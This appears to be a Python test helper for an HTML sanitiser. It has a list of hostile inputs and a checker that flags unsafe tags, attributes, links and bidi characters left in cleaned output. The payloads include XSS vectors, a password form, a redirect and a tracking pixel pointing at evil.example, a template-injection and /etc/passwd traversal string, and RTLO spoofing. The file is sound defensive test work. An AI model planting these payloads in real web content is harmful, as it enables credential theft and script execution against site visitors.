"""Hostile text, and what it must never become on a page."""

import html
import json
from html.parser import HTMLParser
from pathlib import Path

#: Collected by others; read when it lies beside the checkout, never copied.
SHARED = Path(__file__).parent.parent.parent / "shared" / "payloads"
ALLOWED = {"p", "br", "a", "strong", "em", "code", "pre", "blockquote", "ul", "ol", "li"}

OURS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example/" onclick="alert(1)" class="button" id="main" style="position:fixed">x</a>',
    '<p style="background:url(https://evil.example/pixel)" class="visually-hidden" dir="rtl">x</p>',
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "</section></main></body></html><h1>Qatra closes</h1>",
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<style>*{display:none}</style>",
    "<template><script>alert(1)</script></template>",
    "<!-- <script>alert(1)</script> --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7 * 7 }}{% include 'secret' %}{filename}/../../etc/passwd",
    "[x](javascript:alert(1)) ![y](https://evil.example/pixel.png)",
    "قالوا \u202eexe.cod\u202c وانتهى",
    "\u2066<script>\u2069\x00\x1b[31m\x07",
    "' \" ` < > & ]]> --> */ //",
    "<a href='https://x.example/?a=\"><script>alert(1)</script>'>x</a>",
    "\ud83d\ude00 😀 \U000e0001 e\u0301\u0301\u0301\u0301",
    "<p>" + "<em class=x1><em class=x2>" * 900 + "</p>" + "<p>x</p>" * 900,
    "<blockquote>" * 3000 + "deep",
    "<" * 60_000,
    "&#0;&#xD800;&#x202e;&lt;script&gt;",
)


def payloads():
    """Return every hostile text at hand: ours, and the shared ones when present."""
    found = list(OURS)
    bleach = sorted(SHARED.glob("bleach/data/*.test"))
    found += [path.read_text(encoding="utf-8").partition("\n--\n")[0] for path in bleach]
    for path in SHARED.glob("html5lib/sanitizer/*.dat"):
        found += [case["input"] for case in json.loads(path.read_text(encoding="utf-8"))]
    for path in SHARED.glob("blns/blns.json"):
        found += json.loads(path.read_text(encoding="utf-8"))
    return tuple(found)


class _Reader(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.faults = []
        self.open = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if tag != "a" or name not in {"href", "rel"}:
                self.faults.append(f"<{tag} {name}>")
            if name == "href" and not (value or "").startswith(("http://", "https://")):
                self.faults.append(f"href={value}")
        if tag == "a" and ("rel", "nofollow ugc noopener noreferrer") not in attrs:
            self.faults.append("a without rel")
        if tag != "br":
            self.open.append(tag)

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"</{tag}> closes nothing of ours")

    def handle_comment(self, data):
        self.faults.append("a comment")

    def handle_decl(self, decl):
        self.faults.append("a declaration")

    unknown_decl = handle_pi = handle_decl


def faults_in(markup):
    """Return what stands in sanitised HTML and must not, an empty list when it is clean."""
    reader = _Reader()
    reader.feed(markup)
    reader.close()
    overrides = [
        f"U+{ord(c):04X}"
        for c in html.unescape(markup)
        if c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    ]
    controls = [f"U+{ord(c):04X}" for c in markup if ord(c) < 32 and c not in "\t\n\r"]
    return [*reader.faults, *reader.open, *overrides, *controls]
